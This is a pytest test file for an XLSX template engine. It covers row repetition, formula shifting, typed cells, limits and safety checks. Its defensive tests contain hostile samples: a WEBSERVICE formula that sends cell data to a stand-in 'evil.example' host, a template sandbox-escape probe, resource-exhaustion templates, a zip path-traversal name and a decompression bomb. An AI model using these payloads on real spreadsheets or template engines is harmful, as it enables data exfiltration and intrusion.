"""The XLSX engine: cells, typed values, repeated rows and what moves with them, text that never
becomes a formula, errors, limits, safety, and LibreOffice's PDF of the sample report."""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from convkit import Settings, get_plugin_manager
from convkit.backends.engines.xlsx import RowMap, XlsxEngine, shift_formula
from convkit.errors import TemplateError, UnsafeDocument
from convkit.ports import RenderedDocument, Template
from convkit.testing.builders.xlsx import (
    MAIN,
    STYLE_BOLD,
    STYLE_DATE,
    STYLE_FILL,
    STYLE_MONEY,
    Formula,
    Inline,
    Sheet,
    xlsx,
)
from convkit.testing.engine import TemplateEngineContract
from convkit.testing.office import XLSX_KIT, OfficeEngineContract, OfficeKit

EXAMPLES = Path(__file__).parent.parent / "examples" / "templates"


def tpl(source: bytes, name: str = "report") -> Template:
    return Template(name, "xlsx", "xlsx", source, origin=f"/templates/{name}.xlsx")


@pytest.fixture
def engine() -> XlsxEngine:
    return XlsxEngine()


def book(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def sheet_xml(content: bytes, n: int = 1) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return etree.fromstring(zf.read(f"xl/worksheets/sheet{n}.xml"))


def cell(root: etree._Element, ref: str) -> etree._Element:
    found = root.find(f".//{{{MAIN}}}c[@r='{ref}']")
    assert found is not None, ref
    return found


def values(content: bytes, name: str | None = None) -> list[list[Any]]:
    wb = book(content)
    ws = wb[name] if name else wb.worksheets[0]
    return [[c.value for c in row] for row in ws.iter_rows()]


class TestXlsxContract(TemplateEngineContract):
    @pytest.fixture
    def engine(self) -> XlsxEngine:
        return XlsxEngine()

    @pytest.fixture
    def engine_template(self) -> tuple[Template, dict[str, Any], str]:
        src = xlsx([Sheet("S", {"A1": "Hello {{ name }}!"})])
        return tpl(src), {"name": "Ada"}, "Hello Ada!"

    @pytest.fixture
    def broken_template(self) -> Template:
        return tpl(xlsx([Sheet("S", {"A1": "{% if x %}"})]))

    def extract_text(self, document: RenderedDocument) -> str:
        return "\n".join(str(v) for row in values(document.content) for v in row if v is not None)


class TestXlsxOffice(OfficeEngineContract):
    @pytest.fixture
    def kit(self) -> OfficeKit:
        return XLSX_KIT


def test_registered_through_the_plugin_hook() -> None:
    pm = get_plugin_manager(["convkit.backends.engines"], load_entry_points=False)
    engines = [e for r in pm.hook.register_template_engines(settings=Settings()) for e in r]
    [found] = [e for e in engines if e.name == "xlsx"]
    assert found.suffixes == {".xlsx": "xlsx"}


# --------------------------------------------------------------------------------------------------
# Repeated rows and what moves with them


def _report() -> bytes:
    return xlsx(
        [
            Sheet(
                "Report",
                {
                    "A1": "Report for {{ client }}",
                    "A3": "Item",
                    "B3": "Qty",
                    "C3": "Price",
                    "D3": "Total",
                    "A4": "{%tr for it in items %}",
                    "A5": "{{ it.name }}",
                    "B5": "{{ it.qty }}",
                    "C5": "{{ it.price }}",
                    "D5": Formula("B5*C5", 0),
                    "E5": "{{ it.ok }}",
                    "F5": "{{ it.when }}",
                    "A6": "{%tr endfor %}",
                    "A8": "Total",
                    "D8": Formula('SUM(D5:D5)&"D5"', 0),
                    "E8": Formula("Other!B5+$D$5", 0),
                    "A10": Inline("Made by {{ author }}"),
                },
                styles={"A3": STYLE_BOLD, "C5": STYLE_MONEY, "E5": STYLE_FILL},
                merges=["A1:D1", "G5:H5", "A10:B10"],
                cols=[(1, 1, 30.0), (2, 4, 12.5)],
                heights={5: 25.0},
                runs={"A1": ["Report for {{ cli", "ent }}"]},
                conditional=["D5:D5"],
            ),
            Sheet("Other", {"A1": "static", "B5": 1}),
        ],
        defined_names={"_xlnm.Print_Area": "Report!$A$1:$F$10", "Totals": "Report!$D$8"},
    )


ITEMS = [
    {"name": "a", "qty": 2, "price": 1.5, "ok": True, "when": "2026-01-15"},
    {"name": "b<&", "qty": 3, "price": 2, "ok": False, "when": "2026-01-15T12:00:00"},
    {"name": "c", "qty": 1, "price": 1, "ok": None, "when": "not a date"},
]


def test_rows_repeat_and_everything_below_moves(engine: XlsxEngine) -> None:
    out = engine.render(tpl(_report()), {"client": "ACME", "items": ITEMS, "author": "me"})
    wb = book(out.content)
    ws = wb["Report"]
    assert ws["A1"].value == "Report for ACME"
    assert [ws.cell(r, 1).value for r in (4, 5, 6)] == ["a", "b<&", "c"]
    assert [ws.cell(r, 4).value for r in (4, 5, 6)] == ["=B4*C4", "=B5*C5", "=B6*C6"]
    assert ws["A8"].value == "Total"
    assert ws["D8"].value == '=SUM(D4:D6)&"D5"'  # the range grew, the string did not change
    assert ws["E8"].value == "=Other!B5+$D$4"  # another sheet's cell is left alone
    assert ws["A10"].value == "Made by me"
    # Styles and heights of the repeated row, column widths.
    assert all(ws.cell(r, 3).number_format == '#,##0.00\\ "€"' for r in (4, 5, 6))
    assert all(ws.cell(r, 5).fill.fgColor.rgb == "FFFFFF00" for r in (4, 5, 6))
    assert all(ws.row_dimensions[r].height == 25.0 for r in (4, 5, 6))
    assert ws.column_dimensions["A"].width == 30.0
    assert ws.column_dimensions["B"].width == 12.5
    # Merges repeated with the row, and shifted below it.
    assert sorted(str(r) for r in ws.merged_cells.ranges) == sorted(
        ["A1:D1", "G4:H4", "G5:H5", "G6:H6", "A10:B10"]
    )
    assert [str(r.sqref) for r in ws.conditional_formatting] == ["D4:D6"]
    assert ws.print_area == "'Report'!$A$1:$F$10"
    assert wb.defined_names["Totals"].attr_text == "Report!$D$8"
    root = sheet_xml(out.content)
    dim = root.find(f"{{{MAIN}}}dimension")
    assert dim is not None and dim.get("ref") == "A1:F10"
    # Cached formula values are dropped, the calculation chain is gone, recalculation on load.
    assert cell(root, "D4").find(f"{{{MAIN}}}v") is None
    with zipfile.ZipFile(io.BytesIO(out.content)) as zf:
        assert "xl/calcChain.xml" not in zf.namelist()
        assert b"calcChain" not in zf.read("[Content_Types].xml")
        assert b"calcChain" not in zf.read("xl/_rels/workbook.xml.rels")
        assert b'fullCalcOnLoad="1"' in zf.read("xl/workbook.xml")
    assert values(out.content, "Other")[0][0] == "static"


def test_zero_items_closes_up(engine: XlsxEngine) -> None:
    out = engine.render(tpl(_report()), {"client": "x", "items": [], "author": "me"})
    ws = book(out.content)["Report"]
    assert ws["A5"].value == "Total"
    assert ws["D5"].value == '=SUM(D4:D3)&"D5"' or ws["D5"].value.startswith("=SUM(")
    assert "G4:H4" not in {str(r) for r in ws.merged_cells.ranges}
    assert ws["A7"].value == "Made by me"


def test_typed_cells(engine: XlsxEngine) -> None:
    out = engine.render(tpl(_report()), {"client": "x", "items": ITEMS, "author": "me"})
    root = sheet_xml(out.content)
    qty = cell(root, "B4")
    assert qty.get("t") is None and qty.findtext(f"{{{MAIN}}}v") == "2"
    assert cell(root, "E4").get("t") == "b" and cell(root, "E4").findtext(f"{{{MAIN}}}v") == "1"
    assert cell(root, "E5").findtext(f"{{{MAIN}}}v") == "0"
    assert cell(root, "E6").find(f"{{{MAIN}}}v") is None  # null -> empty cell, style kept
    assert cell(root, "E6").get("s") == str(STYLE_FILL)
    ws = book(out.content)["Report"]
    assert ws["F4"].value == dt.datetime(2026, 1, 15)
    assert ws["F4"].is_date and ws["F5"].is_date
    assert ws["F5"].value == dt.datetime(2026, 1, 15, 12, 0)
    assert ws["F6"].value == "not a date"
    assert ws["C4"].value == 1.5


def test_date_cell_with_date_style_keeps_it(engine: XlsxEngine) -> None:
    src = xlsx([Sheet("S", {"A1": "{{ d }}"}, styles={"A1": STYLE_DATE})])
    root = sheet_xml(engine.render(tpl(src), {"d": "2026-01-15"}).content)
    assert cell(root, "A1").get("s") == str(STYLE_DATE)


def test_data_never_becomes_a_formula(engine: XlsxEngine) -> None:
    evil = '=WEBSERVICE("http://evil.example/?"&A1)'
    src = xlsx([Sheet("S", {"A1": "{{ v }}", "B1": "x{{ v }}", "C1": Inline("{{ v }}")})])
    out = engine.render(tpl(src), {"v": evil})
    root = sheet_xml(out.content)
    assert not list(root.iter(f"{{{MAIN}}}f"))
    for ref in ("A1", "C1"):
        assert cell(root, ref).get("t") == "inlineStr"
    ws = book(out.content).worksheets[0]
    assert ws["A1"].value == evil and ws["A1"].data_type == "s"
    assert ws["B1"].value == "x" + evil


def test_control_words_in_cells(engine: XlsxEngine) -> None:
    src = xlsx(
        [
            Sheet(
                "S",
                {
                    "A1": "{% if n > 1 %}many{% else %}one{% endif %}",
                    "A2": "{{ n|format_decimal }} {{ price|format_currency('EUR') }}",
                    "A3": "{{ text }}",
                },
            )
        ]
    )
    data = {"n": 1234.5, "price": 3, "text": "line1\nline2"}
    out = engine.render(tpl(src), data, locale="de_DE")
    ws = book(out.content).worksheets[0]
    assert ws["A1"].value == "many"
    assert ws["A2"].value == "1.234,5 3,00\xa0€"
    assert ws["A3"].value == "line1\nline2"


def test_thousands_of_rows(engine: XlsxEngine) -> None:
    src = xlsx(
        [
            Sheet(
                "S",
                {
                    "A1": "{%tr for r in rows %}",
                    "A2": "{{ r }}",
                    "B2": Formula("A2*2"),
                    "A3": "{%tr endfor %}",
                    "A4": Formula("SUM(A2:A2)"),
                },
            )
        ]
    )
    out = engine.render(tpl(src), {"rows": list(range(5000))})
    ws = book(out.content).worksheets[0]
    assert ws["A5000"].value == 4999 and ws["B5000"].value == "=A5000*2"
    assert ws["A5001"].value == "=SUM(A1:A5000)"


def test_row_map_and_formula_shift() -> None:
    rows = RowMap(present=[1, 2, 3, 5])
    rows.first, rows.last, rows.emitted = {1: 1, 3: 2}, {1: 1, 3: 4}, [1, 3]
    assert rows.position(5) == 6  # row 4 is implicit, row 2 vanished
    assert shift_formula('A3+SUM($B$3:B5)+"A3"+LOG10(A5)', rows, None) == (
        'A2+SUM($B$2:B6)+"A3"+LOG10(A6)'
    )


def test_sheet_and_cell_in_errors(engine: XlsxEngine) -> None:
    src = xlsx([Sheet("Data", {"A1": "ok"}), Sheet("Sales Q1", {"B7": "{{ total | }}"})])
    with pytest.raises(TemplateError) as err:
        engine.check(tpl(src))
    msg = err.value.message
    assert msg.startswith("template 'report', sheet 'Sales Q1', cell B7: tag \"{{ total | }}\": ")
    src = xlsx([Sheet("S", {"A1": "x", "C3": "{{ missing.x }}"})])
    with pytest.raises(TemplateError, match=r"sheet 'S', cell C3: tag .*'missing' is undefined"):
        engine.render(tpl(src), {}, options={"strict": True})


def test_sandbox_and_limits() -> None:
    engine = XlsxEngine(max_output_bytes=100_000, time_limit_s=0.3)
    with pytest.raises(TemplateError) as err:
        engine.render(tpl(xlsx([Sheet("S", {"A1": "{{ ''.__class__.__mro__ }}"})])), {})
    assert err.value.code == "template_error"
    with pytest.raises(TemplateError) as err:
        engine.render(tpl(xlsx([Sheet("S", {"A1": "{{ 'x' * 10000000000 }}"})])), {})
    assert err.value.code == "template_limit_exceeded"
    big = "{% for i in range(100000) %}xxxxxxxxxx{% endfor %}"
    with pytest.raises(TemplateError) as err:
        engine.render(tpl(xlsx([Sheet("S", {"A1": big})])), {})
    assert err.value.code == "template_limit_exceeded"
    slow = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    with pytest.raises(TemplateError) as err:
        engine.render(tpl(xlsx([Sheet("S", {"A1": slow})])), {})
    assert err.value.code == "template_limit_exceeded"


def test_cache_and_variables(engine: XlsxEngine) -> None:
    src = _report()
    assert engine.variables(tpl(src)) == {"client", "items", "author"}
    engine.render(tpl(src), {"items": []})
    engine.render(tpl(src, "again"), {"items": []})
    assert engine.cache_misses == 1 and engine.cache_hits == 2


def test_unsafe_workbooks_are_refused(engine: XlsxEngine) -> None:
    with zipfile.ZipFile(io.BytesIO(_report())) as zf:
        good = {n: zf.read(n) for n in zf.namelist()}

    def z(members: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in members.items():
                zf.writestr(name, data)
        return buf.getvalue()

    with pytest.raises(UnsafeDocument, match="macros"):
        engine.check(tpl(z({**good, "xl/vbaProject.bin": b"\x00" * 10})))
    with pytest.raises(UnsafeDocument, match="unsafe name"):
        engine.check(tpl(z({**good, "xl/../../x": b"x"})))
    doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]><worksheet/>'
    with pytest.raises(UnsafeDocument, match="DOCTYPE"):
        engine.check(tpl(z({**good, "xl/worksheets/sheet1.xml": doctype})))
    with pytest.raises(UnsafeDocument, match="bomb"):
        engine.check(tpl(z({**good, "xl/sharedStrings.xml": b" " * 50_000_000})))


# --------------------------------------------------------------------------------------------------
# Any string survives


_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"), max_size=60
) | st.sampled_from(
    ["<", "&", "]]>", "</t>", "\"'", "\U0001f600 \U0001d518", "=1+1", " lead", "2026-01-01x"]
)

_SHARED = XlsxEngine()
_ANY = xlsx([Sheet("S", {"A1": "{{ v }}", "B1": "[{{ v }}]"})])


def _expected(value: str) -> str:
    import re

    return re.sub("[^\t\n\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "", value)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=_TEXT)
def test_any_string_appears_exactly(value: str) -> None:
    out = _SHARED.render(tpl(_ANY), {"v": value}).content
    root = sheet_xml(out)

    def text(ref: str) -> str:
        c = cell(root, ref)
        return "".join(c.itertext())

    expected = _expected(value)
    iso_like = len(value.strip()) in (10, 16, 19) and value.strip()[:4].isdigit()
    if not iso_like:
        assert text("A1") == expected
        assert cell(root, "A1").get("t") == "inlineStr"
    assert text("B1") == "[" + expected + "]"


# --------------------------------------------------------------------------------------------------
# The sample report


def _example() -> tuple[bytes, dict[str, Any]]:
    source = (EXAMPLES / "report_xlsx.xlsx").read_bytes()
    data = json.loads((EXAMPLES / "report_xlsx.json").read_text())
    return source, data


def test_example_report_renders(engine: XlsxEngine) -> None:
    source, data = _example()
    out = engine.render(tpl(source), data)
    flat = [v for row in values(out.content) for v in row if v is not None]
    assert any(isinstance(v, str) and "Quarterly report" in v for v in flat)
    assert not any(isinstance(v, str) and "{{" in v for v in flat)


@pytest.mark.libreoffice
def test_example_report_converts_to_pdf(tmp_path: Path) -> None:
    from pypdf import PdfReader

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("LibreOffice is not installed")
    source, data = _example()
    path = tmp_path / "report.xlsx"
    path.write_bytes(XlsxEngine().render(tpl(source), data).content)
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    text = "\n".join(p.extract_text() for p in PdfReader(tmp_path / "report.pdf").pages)
    assert "Quarterly report" in text
    for item in data["lines"]:
        assert item["product"] in text
    assert "{{" not in text
